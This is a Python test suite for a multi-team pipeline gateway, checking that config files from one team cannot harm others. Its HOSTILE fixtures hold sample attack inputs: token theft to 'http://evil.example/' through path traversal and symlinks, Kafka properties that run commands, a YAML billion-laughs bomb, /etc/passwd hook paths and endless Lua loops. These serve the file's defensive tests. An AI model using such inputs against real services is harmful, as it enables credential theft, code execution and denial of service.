"""Files of teams: each has its pipelines in a file of its own, and no team can hurt another, whatever it writes."""
import json
import os
import re
import signal

import pytest

import flyte
from gateway import request, run
from reloading import ids, send
from wait import wait_until
from webhook import Webhook

GUARD = """\
include: teams/*/*.yaml
guard:
  hook_limits: {instructions: 200000, memory: 8MiB, timeout: 1s, allow_hosts: ['*.corp.example']}
  env: [TEAM_*]
  publishers: [file, http, kafka, 'null']
"""
RED = """\
pipelines:
  - name: red
    hooks: [keep.lua]
    set: {team: "${TEAM_RED}"}
    publisher: {type: file, path: red.jsonl}
"""
KEEP = "return function(e) e.kept = true end\n"
BLUE = """\
pipelines:
  - {name: blue, publisher: {type: http, url: '%s', bearer_token_file: token}}
  - {name: blue-copy, match: {project: [flyte*]}, publisher: {type: file, path: blue.jsonl}}
"""
NULL = "publisher: {type: 'null'}"

# What a hostile team writes: the file, and what is said of its pipelines. None: it is sound, and only its own script suffers.
HOSTILE = {
    "limits": ("pipelines: [{name: h-limits, hook_limits: {memory: 64GiB, instructions: 1000000000000, timeout: 24h}, %s}]" % NULL,
               "hook_limits.memory: 64GiB is above 8MiB (guard.hook_limits.memory)"),
    "env": ("pipelines: [{name: h-env, set: {x: '${GATEWAY_SECRET}'}, %s}]" % NULL,
            "${GATEWAY_SECRET}: this file may not read this environment variable (guard.env)"),
    "publisher": ("pipelines: [{name: h-publisher, publisher: {type: ftp, topic_arn: x}}]", "\"ftp\" is none of file"),
    "keys": ("log: {path: /tmp/x}\nadmin: {listen: 0.0.0.0:1}\npipelines: [{name: h-keys, %s}]" % NULL, "\"log\" cannot stand here"),
    "include": ("include: ../*/*.yaml\npipelines: [{name: h-include, %s}]" % NULL, "\"include\" cannot stand here"),
    "guard": ("guard: {}\npipelines: [{name: h-guard, %s}]" % NULL, "\"guard\" cannot stand here"),
    "code": ("pipelines: [{name: h-code, publisher: {type: kafka, brokers: b, topic: t, properties: {plugin.library.paths: ./evil}}}]",
             "plugin.library.paths runs code"),
    "command": ("pipelines: [{name: h-command, publisher: {type: kafka, brokers: b, topic: t, sasl: {mechanism: GSSAPI},"
                " properties: {sasl.kerberos.kinit.cmd: 'touch evil'}}}]", "sasl.kerberos.kinit.cmd runs code"),
    "secret": ("pipelines: [{name: h-secret, publisher: {type: http, url: 'http://evil.example/', bearer_token_file: ../blue/token}}]",
               "bearer_token_file: ../blue/token is not below"),
    "link": ("pipelines: [{name: h-link, publisher: {type: http, url: 'http://evil.example/', bearer_token_file: link}}]",
             "bearer_token_file: link is not below"),
    "script": ("pipelines: [{name: h-script, hooks: [/etc/passwd], %s}]" % NULL, "hooks: /etc/passwd is not below"),
    "many": ("pipelines:\n" + "".join(f"- {{name: h-many{i}}}\n" for i in range(1001)), None),
    "bomb": ("a: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(f"{y}: &{y} [{','.join(['*' + x] * 9)}]\n" for x, y in zip("abcdefgh", "bcdefghi")), None),
    "deep": ("pipelines: " + "[" * 500000, None),
    "torn": ("pipelines:\n  - name: h-torn\n    publisher: {type: 'null'\n", "not YAML"),
    "binary": ("\x7fELF\x01\x02", None),
    "loop": ("pipelines: [{name: h-loop, hooks: [loop.lua], publisher: {type: file, path: loop.jsonl}}]", None),
    "load": ("pipelines: [{name: h-load, hooks: [load.lua], publisher: {type: file, path: load.jsonl}}]", None),
    "missing": ("pipelines: [{name: h-missing, hooks: [none.lua], publisher: {type: file, path: missing.jsonl}}]", None),
    # what is another team's
    "name": ("pipelines: [{name: h-name, %s}, {name: red, %s}]" % (NULL, NULL), "pipelines.red: two pipelines have this name"),
    "main": ("pipelines: [{name: h-main, %s}, {name: main, %s}]" % (NULL, NULL), "pipelines.main: two pipelines have this name"),
    "takes": ("pipelines: [{name: h-takes, renamed_from: blue, publisher: {type: file, path: takes.jsonl}}]",
              "h-takes.renamed_from: there is a pipeline blue"),
    "takes-main": ("pipelines: [{name: h-takes-main, renamed_from: main, publisher: {type: file, path: takes.jsonl}}]",
                   "h-takes-main.renamed_from: there is a pipeline main"),
}


def write_teams(g, url):
    g.write("teams/red/red.yaml", RED)
    g.write("teams/red/keep.lua", KEEP)
    g.write("teams/blue/blue.yaml", BLUE % url)
    g.write("teams/blue/token", "blue-token\n")


def write_hostile(g):
    for name, (text, _) in HOSTILE.items():
        g.write(f"teams/zed/{name}.yaml", text + "\n")
    g.write("teams/zed/loop.lua", "return function() while true do end end\n")
    g.write("teams/zed/load.lua", "while true do end\n")
    os.symlink("../blue/token", g.path("teams/zed/link"))
    os.mkfifo(g.path("teams/zed/fifo.yaml"))
    os.symlink("/dev/zero", g.path("teams/zed/zero.yaml"))
    os.symlink("zero.yaml", g.path("teams/zed/self.yaml"))
    with open(g.path("teams/zed/large.yaml"), "wb") as f:
        f.truncate(1 << 33)


ENV = {"TEAM_RED": "red-env", "GATEWAY_SECRET": "s3cret-of-the-gateway"}
MAIN = GUARD + "pipelines: [{name: main, publisher: {type: file, path: main.jsonl}}]\n"


@pytest.fixture
def hook():
    server = Webhook()
    yield server
    server.close()


@pytest.fixture
def teams(gateway, hook):
    """A gateway with the files of red and blue, not started."""
    g = gateway(MAIN, started=False, env=ENV)
    write_teams(g, hook.url)
    return g


def up(g):
    return {name for name, p in g.pipelines().items() if p["up"]}


def check_up(g, *names):
    wait_until(lambda: up(g) == set(names), lambda: f"{up(g)}\n{g.log()[-3000:]}")


def said(g, message):
    return [x for x in g.log().splitlines() if f'msg="{message}"' in x]


def reload(g):
    """What a reload over the API says."""
    status, _, body = request(g.admin, "POST", "/api/reload")
    return status, json.loads(body)


def hup(g):
    before = len(said(g, "reloaded"))
    g.signal(signal.SIGHUP)
    wait_until(lambda: len(said(g, "reloaded")) > before, g.log)
    return said(g, "reloaded")[-1]


# ---- three teams, one of them hostile

def test_a_hostile_team_hurts_no_other(teams, hook):
    g = teams
    write_hostile(g)
    g.start()
    names = [f"f{i}" for i in range(20)]
    send(g, *names)
    for name in ("main", "red", "blue", "blue-copy"):
        g.settled(20, name)
    assert g.ids("main.jsonl") == g.ids("teams/red/red.jsonl") == g.ids("teams/blue/blue.jsonl") == ids(*names)
    assert {e["team"] for e in g.lines("teams/red/red.jsonl")} == {"red-env"}
    assert {e["kept"] for e in g.lines("teams/red/red.jsonl")} == {True}
    assert sorted(hook.taken) == sorted(ids(*names))      # http keeps the order of one key
    assert {r.headers["authorization"] for r in hook.posts} == {"Bearer blue-token"}
    every = g.pipelines()
    for name, (_, why) in HOSTILE.items():
        if why:
            told = every[f"h-{name}"]
            assert not told["up"] and why in told["last_error"], told
            assert told["last_error"].startswith(f"{g.folder}/teams/zed/{name}.yaml:"), told
            assert g.metric("moongate_pipeline_up", pipeline=f"h-{name}") == 0
            assert (told["accepted"], told["lag"]) == ((0, 0) if name in ("torn", "takes", "takes-main") else (20, 20))
    assert not every["h-load"]["up"] and not every["h-missing"]["up"] and "none.lua" in every["h-missing"]["last_error"]
    assert every["red"]["up"] and every["main"]["up"] and every["blue"]["up"]
    assert not os.path.exists(g.path("evil")) and "s3cret-of-the-gateway" not in g.log()
    g.restart()
    send(g, "after")
    for name in ("main", "red", "blue", "blue-copy"):
        g.settled(21, name)
    assert g.ids("teams/red/red.jsonl") == ids(*names, "after")
    checked = run("check", "-c", g.config_file, env=ENV)
    assert checked.returncode == 1 and "s3cret" not in checked.stdout + checked.stderr
    for name, (_, why) in HOSTILE.items():
        assert not why or f"teams/zed/{name}.yaml:" in checked.stdout, name
        assert not why or why in checked.stdout, name
    assert not os.path.exists(g.path("evil"))


def test_a_file_that_is_mended_goes_on_where_it_stood(teams):
    g = teams
    good = "pipelines: [{name: green, publisher: {type: file, path: green.jsonl}}]\n"
    g.write("teams/green/green.yaml", good)
    g.start()
    send(g, "f1")
    g.settled(1)
    g.stop()
    for broken, said_of in (("pipelines:\n  - name: green\n    publisher: {type: 'null'\n", "not YAML"), (good.replace("type: file", "type: fil"), "fil")):
        g.write("teams/green/green.yaml", broken)
        g.start()
        check_up(g, "main", "red", "blue", "blue-copy")
        assert said_of in g.pipeline("green")["last_error"]
        before = g.pipeline("green")["lag"]
        send(g, f"down{before}")
        g.settled(before + 2, "red")
        assert g.pipeline("green")["lag"] == before + 1 and g.ids("teams/green/green.jsonl") == ids("f1")
        assert g.metric("moongate_log_orphan_cursors") == 0
        assert request(g.admin, "POST", "/api/pipelines/green/resume")[0] == 409
        g.stop()
    g.start()
    g.write("teams/green/green.yaml", good)
    assert "changed=1 unchanged=4" in hup(g)
    g.settled(3)
    assert g.ids("teams/green/green.jsonl") == ids("f1", "down0", "down1")


def test_a_script_whose_link_leads_elsewhere_is_not_followed_by_a_reload(gateway, tmp_path):
    g = gateway(started=False, config="include: teams/*.yaml\nguard: {}\n", files={
        "teams/red.yaml": "pipelines: [{name: red, hooks: [red.lua], publisher: {type: file, path: red.jsonl}}]\n",
        "teams/v1.lua": "return function(e) e.v = 1 end\n", "teams/v2.lua": "return function(e) e.v = 2 end\n"})
    (tmp_path / "others.lua").write_text("return function(e) e.v = 'of others' end\n", encoding="utf-8")

    def link(target):
        os.symlink(target, g.path("teams/new"))
        os.rename(g.path("teams/new"), g.path("teams/red.lua"))

    link("v1.lua")
    g.start()
    link(str(tmp_path / "others.lua"))
    wait_until(lambda: said(g, "script not reloaded, the version before goes on"), g.log)
    send(g, "f1")
    g.settled(1)
    assert "teams/red.lua:1: leads out of the folders" in g.pipeline("red")["last_error"]
    link("v2.lua")
    wait_until(lambda: said(g, "script reloaded"), g.log)
    send(g, "f2")
    g.settled(2)
    assert [e["v"] for e in g.lines("teams/red.jsonl")] == [1, 2]


# ---- SIGHUP

def test_a_file_that_cannot_be_read_keeps_the_records_of_its_pipelines_that_are_down(teams):
    g = teams
    g.write("teams/green/green.yaml", "pipelines: [{name: green, publisher: {type: fil}}]\n")
    g.start()
    send(g, "f1")
    g.settled(1, "red")
    assert g.pipeline("green")["lag"] == 1
    os.unlink(g.path("teams/green/green.yaml"))
    os.mkdir(g.path("teams/green/green.yaml"))      # not even its names can be guessed
    assert "removed=0 changed=0 unchanged=5" in hup(g)
    send(g, "f2")
    g.settled(2, "red")
    assert not g.pipeline("green")["up"] and g.pipeline("green")["lag"] == 2
    os.rmdir(g.path("teams/green/green.yaml"))
    g.write("teams/green/green.yaml", "pipelines: [{name: green, publisher: {type: file, path: green.jsonl}}]\n")
    assert "changed=1 unchanged=4" in hup(g)
    g.settled(2, "green")
    assert g.ids("teams/green/green.jsonl") == ids("f1", "f2")
    os.unlink(g.path("teams/green/green.yaml"))     # one that is gone takes them with it
    assert "removed=1" in hup(g)


@pytest.mark.parametrize("broken", ["pipelines:\n  - {name: red, wokers: 2, publisher: {type: file, path: red.jsonl}}\n", "pipelines: [\n",
                                    "log: {}\n", "\x01", "pipelines: [{name: red, set: {x: '${HOME}'}, publisher: {type: file, path: red.jsonl}}]\n"])
def test_a_broken_file_changes_nothing_of_its_pipelines_and_the_rest_is_reloaded(teams, broken):
    g = teams.start()
    send(g, "f1")
    g.settled(1)
    g.write("teams/red/red.yaml", broken)
    g.write("teams/new/new.yaml", "pipelines: [{name: new, publisher: {type: file, path: new.jsonl}}]\n")
    status, told = reload(g)
    assert status == 200 and told["reloaded"] and told["added"] == 1 and told["removed"] == told["changed"] == 0
    assert any("teams/red/red.yaml:" in x for x in told["problems"])
    check_up(g, "main", "red", "blue", "blue-copy", "new")
    send(g, "f2")
    g.settled(2, "red")
    assert g.ids("teams/red/red.jsonl") == ids("f1", "f2") and g.ids("teams/new/new.jsonl") == ids("f2")
    g.write("teams/red/red.yaml", RED + "    workers: 2\n")
    assert "changed=1 unchanged=4" in hup(g)
    check_up(g, "main", "red", "blue", "blue-copy", "new")


def test_a_name_of_a_file_that_is_broken_cannot_be_taken_meanwhile(teams):
    g = teams.start()
    send(g, "f1")
    g.settled(1)
    g.write("teams/red/red.yaml", "pipelines: [\n")
    g.write("teams/zed/zed.yaml", "pipelines: [{name: red, publisher: {type: file, path: stolen.jsonl}}]\n")
    assert reload(g)[0] == 200
    send(g, "f2")
    g.settled(2)
    assert g.ids("teams/red/red.jsonl") == ids("f1", "f2") and not os.path.exists(g.path("teams/zed/stolen.jsonl"))


def test_a_file_that_goes_takes_its_pipelines_with_it(teams):
    g = teams.start()
    os.unlink(g.path("teams/red/red.yaml"))
    assert "removed=1 changed=0 unchanged=3" in hup(g)
    check_up(g, "main", "blue", "blue-copy")


def test_renamed_from_takes_no_cursor_that_is_another_files(teams):
    g = teams.start()
    send(g, "f1")
    g.settled(1)
    g.write("teams/zed/zed.yaml", "pipelines: [{name: thief, renamed_from: red, publisher: {type: file, path: stolen.jsonl}}]\n")
    g.restart()
    assert not g.pipeline("thief")["up"] and "there is a pipeline red at" in g.pipeline("thief")["last_error"]
    g.stop()
    g.write("teams/red/red.yaml", "\n- {")       # nobody can read what names it has
    g.start()
    assert not g.pipeline("thief")["up"] and "teams/red/red.yaml:" in g.pipeline("thief")["last_error"]
    g.stop()
    g.write("teams/red/red.yaml", RED)
    g.start()
    send(g, "f2")
    g.settled(2, "red")
    assert g.pipeline("red")["published"] == 2 and g.ids("teams/red/red.jsonl") == ids("f1", "f2")


# ---- check

def check(folder, text, *args):
    (folder / "m.yaml").write_text(text)
    return run("check", "-c", "m.yaml", *args, cwd=folder, env=ENV)


def test_check_says_nothing_of_sound_files(tmp_path):
    (tmp_path / "p").mkdir()
    (tmp_path / "p/a.yaml").write_text("pipelines: [{name: a, set: {t: '${TEAM_RED}'}, publisher: {type: file, path: a.jsonl}}]\n")
    done = check(tmp_path, GUARD.replace("teams/*/*", "p/*"), "--strict")
    assert (done.returncode, done.stdout, done.stderr) == (0, "", "")


def test_check_tells_each_problem_at_its_file_and_line(tmp_path):
    (tmp_path / "p").mkdir()
    (tmp_path / "p/a.yaml").write_text("pipelines:\n  - name: a\n    hooks: [a.lua, b.lua]\n    publisher: {type: 'null'}\n")
    (tmp_path / "p/a.lua").write_text("return funtion() end\n")
    (tmp_path / "p/b.yaml").write_text("pipeline: 1\npipelines:\n  - name: a\n    workers: many\n    publisher: {type: nul}\n")
    done = check(tmp_path, "include: [p/*.yaml, c.yaml]\nguard: {publishers: ['null']}\n")
    assert done.returncode == 1 and done.stderr == ""
    assert done.stdout.splitlines() == [
        "m.yaml:1:21: error: include: c.yaml: No such file or directory",
        "p/a.lua:1:1: error: <eof> expected near 'end'",
        "p/a.yaml:3:20: error: pipelines.a.hooks: p/b.lua: No such file or directory",
        "p/b.yaml:1:1: error: \"pipeline\" cannot stand here: an included file holds pipelines only (did you mean \"pipelines\"?)",
        "p/b.yaml:3:11: error: pipelines.a: two pipelines have this name, the other stands at p/a.yaml:2:11",
        "p/b.yaml:4:14: error: pipelines.a.workers: expected a whole number, not \"many\"",
        "p/b.yaml:5:23: error: pipelines.a.publisher.type: \"nul\" is none of file, http, kafka, nats, null, pubsub, sns, sqs (did you mean \"null\"?)"]


def test_no_secret_is_told_anywhere(gateway, hook):
    secrets = {"env": "s3cret-env", "file": "s3cret-file", "text": "s3cret-text", "id": "s3cret-oauth"}
    g = gateway(f"""\
pipelines:
  - {{name: a, publisher: {{type: http, url: '{hook.url}', bearer_token: '${{TEAM_TOKEN}}'}}}}
  - {{name: b, publisher: {{type: http, url: '{hook.url}', bearer_token_file: token}}}}
  - {{name: c, publisher: {{type: http, url: '{hook.url}', headers: {{authorization: {secrets['text']}}}}}}}
  - {{name: d, publisher: {{type: http, url: '{hook.url}', oauth: {{token_url: 'http://127.0.0.1:1/', client_id: i, client_secret: {secrets['id']}}}}}}}
""", files={"token": secrets["file"] + "\n"}, env={"TEAM_TOKEN": secrets["env"]})
    send(g, "f1")
    for name in "abc":
        g.settled(1, name)
    wait_until(lambda: g.pipeline("d")["last_error"])
    assert {r.headers["authorization"] for r in hook.posts} == {"Bearer s3cret-env", "Bearer s3cret-file", "s3cret-text"}
    told = [g.log(), g.get("/api/pipelines")[1], g.get("/metrics")[1], run("schema").stdout]
    checked = run("check", "-c", g.config_file, env={"TEAM_TOKEN": secrets["env"]})
    g.configure(f"pipelines: [{{name: a, publisher: {{type: http, url: '{hook.url}', bearer_token: [{secrets['text']}], "
                "oauth: {client_id: i, client_secret: '${TEAM_TOKEN}', client_secret_file: token, token_url: x}}}]\n")
    worse = run("check", "-c", g.config_file, env={"TEAM_TOKEN": secrets["env"]})
    told += [json.dumps(reload(g)[1]), g.log(), checked.stdout + checked.stderr, worse.stdout + worse.stderr]
    assert checked.returncode == 0 and worse.returncode == 1
    assert not [x for x in told for s in secrets.values() if s in x]


def test_a_name_is_its_teams_over_a_restart_whoever_comes_first(teams):
    """aaa comes first by name, and would have red's cursor."""
    g = teams.start()
    send(g, "f1")
    g.settled(1)
    for red in (RED, RED + "    workers: 0\n", "pipelines: [{\n"):
        g.write("teams/red/red.yaml", red)
        g.write("teams/aaa/aaa.yaml", "pipelines: [{name: red, publisher: {type: file, path: stolen.jsonl}}]\n")
        g.restart()
        assert g.pipeline("red")["up"] == (red == RED)
    send(g, "f2")
    g.settled(2, "main")
    g.write("teams/red/red.yaml", RED)
    g.restart()
    g.settled(2)
    assert g.ids("teams/red/red.jsonl") == ids("f1", "f2") and not os.path.exists(g.path("teams/aaa/stolen.jsonl"))


def properties(schema):
    """Every table of the schema, as {key: schema}."""
    if isinstance(schema, dict):
        if isinstance(schema.get("properties"), dict):
            yield schema["properties"]
        for value in schema.values():
            yield from properties(value)
    elif isinstance(schema, list):
        for value in schema:
            yield from properties(value)


def test_every_secret_of_the_schema_has_its_twin():
    found = set()
    for table in properties(json.loads(run("schema", check=0).stdout)):
        for key in table:
            if re.search("(password|secret|token)$", key):
                assert key + "_file" in table and "default" not in table[key], key
                found.add(key)
    assert {"password", "bearer_token", "client_secret", "secret", "token"} <= found
